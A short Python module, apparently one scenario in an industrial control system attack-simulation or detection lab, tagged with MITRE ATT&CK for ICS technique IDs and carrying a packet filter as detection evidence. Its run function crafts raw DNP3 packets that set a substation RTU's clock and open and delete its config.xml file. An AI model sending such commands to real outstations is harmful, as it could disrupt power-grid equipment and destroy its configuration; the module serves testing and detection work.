"""The clock of the outstation is set and its files are opened and deleted."""

from __future__ import annotations

import struct

from ..frames import Tcp, dnp3
from ..node import Node

TITLE = "Clock of the substation's outstation set, files opened and deleted, by a new master"
TECHNIQUES = ("T0836", "T0809", "T0893")
ORIGIN = "laptop"
ENTITIES = ("laptop", "rtu-substation")
EVIDENCE = "dnp3.al.func in {2, 25, 27} && ip.src == 10.20.1.99"


def run(node: Node) -> None:
    """WRITE of the absolute time, OPEN_FILE and DELETE_FILE of the configuration."""
    connection = Tcp(node.peer("rtu-substation"), 20000)
    name = b"config.xml"
    command = struct.pack("<HH", 26, len(name)) + bytes(6) + bytes(2) + bytes(8)
    command += struct.pack("<HHH", 1, 256, 1) + name
    file = b"\x46\x03\x5b\x01" + struct.pack("<H", len(command)) + command
    clock = b"\x32\x01\x07\x01" + struct.pack("<Q", 978_307_200_000)[:6]
    for sequence, (function, objects) in enumerate(
        ((2, clock), (25, file), (27, file), (2, clock))
    ):
        connection.say(dnp3(function, objects, sequence))
        node.pause(0.5)
    connection.close()
